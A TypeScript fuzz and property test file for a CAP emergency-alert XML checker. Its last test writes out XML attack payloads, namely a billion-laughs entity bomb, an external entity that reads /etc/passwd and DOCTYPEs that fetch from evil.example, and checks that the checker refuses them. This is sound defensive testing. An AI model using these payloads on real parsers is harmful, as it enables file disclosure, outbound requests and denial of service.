import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { aCapAlert } from '../../src/capabilities/alerts/cap/cap-builders.ts';
import { checkCapFile, describeCapFileReport } from '../../src/capabilities/alerts/cap/check-cap-file.ts';
import { parseCap, parseCapAlert } from '../../src/capabilities/alerts/cap/parse-cap.ts';
import { renderCap } from '../../src/capabilities/alerts/cap/render-cap.ts';
import { readXmlTree } from '../../src/capabilities/alerts/cap/xml/read-xml-tree.ts';
import { loosen, mutate, mutations, writeLoose } from './cap-mutations.ts';

const sound = renderCap(aCapAlert());
const bytes = new TextEncoder().encode(sound);

function expectReport(input: Uint8Array): void {
  const report = checkCapFile('x.xml', input);
  if (report.verdict !== 'valid') expect(report.reasons.length).toBeGreaterThan(0);
  if (report.verdict === 'valid') expect(report.alerts.length).toBeGreaterThan(0);
  expect(describeCapFileReport(report)).toContain(report.verdict);
}

describe('checking anything', () => {
  it('never throws on arbitrary bytes', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 200 }), expectReport), { numRuns: 1000 });
  });

  it('never throws on an alert with bytes changed, cut out or put in', () => {
    const edit = fc.record({ at: fc.nat(bytes.length), cut: fc.nat(30), put: fc.uint8Array({ maxLength: 12 }) });
    fc.assert(
      fc.property(fc.array(edit, { minLength: 1, maxLength: 4 }), (edits) => {
        const changed = edits.reduce(
          (now, { at, cut, put }) => [...now.slice(0, at), ...put, ...now.slice(at + cut)],
          [...bytes],
        );
        expectReport(Uint8Array.from(changed));
      }),
      { numRuns: 2000 },
    );
  });

  it('never throws on scraps of markup', () => {
    const scraps = [
      '<alert',
      '<?xml',
      '?>',
      ' xmlns="urn:oasis:names:tc:emergency:cap:1.2"',
      '>',
      '</alert>',
      '<!--',
      '-->',
    ];
    const more = [
      '<![CDATA[',
      ']]>',
      '<!DOCTYPE',
      '<!ENTITY',
      '&#x0;',
      '&lt;',
      '&x;',
      '<info>',
      '</info>',
      '"',
      "'",
      '\ufeff',
    ];
    const scrap = fc.oneof(fc.constantFrom(...scraps, ...more), fc.string({ maxLength: 5 }));
    fc.assert(
      fc.property(fc.array(scrap, { maxLength: 15 }), (parts) => {
        expectReport(new TextEncoder().encode(parts.join('')));
        parseCap(parts.join(''));
      }),
      { numRuns: 2000 },
    );
  });

  it('renders whatever it could read, and never turns one kind of message into another', () => {
    const { root } = readXmlTree(sound);
    fc.assert(
      fc.property(fc.array(mutations, { minLength: 1, maxLength: 4 }), (changes) => {
        if (root === undefined) return;
        const loose = loosen(root);
        for (const change of changes) mutate(loose, change);
        const xml = writeLoose(loose);
        const reading = parseCapAlert(xml);
        if (reading.alert === undefined) {
          expect(reading.reasons.some((reason) => reason.level === 'refusal')).toBe(true);
          return;
        }
        const written = new RegExp(`<msgType[^>]*>\\s*${reading.alert.msgType}\\s*<`, 'iu');
        expect(xml).toMatch(written);
        expect(parseCapAlert(renderCap(reading.alert))).toMatchObject({ verdict: 'valid', alert: reading.alert });
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    [
      'a billion laughs',
      `<!DOCTYPE a [<!ENTITY a "ha">${'bcdefghij'
        .split('')
        .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
        .join('')}]><a>&j;</a>`,
    ],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><alert>&x;</alert>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><alert/>'],
    ['an external subset', '<!DOCTYPE alert PUBLIC "-//A//B//EN" "http://evil.example/x.dtd"><alert/>'],
  ])('refuses %s because of its DOCTYPE, and shows nothing of it', (_, xml) => {
    const report = checkCapFile('x.xml', new TextEncoder().encode(xml));
    expect(report).toMatchObject({ verdict: 'refused', alerts: [] });
    expect(report.reasons).toEqual([expect.stringMatching(/^line 1: a DOCTYPE is not accepted/u)]);
  });
});
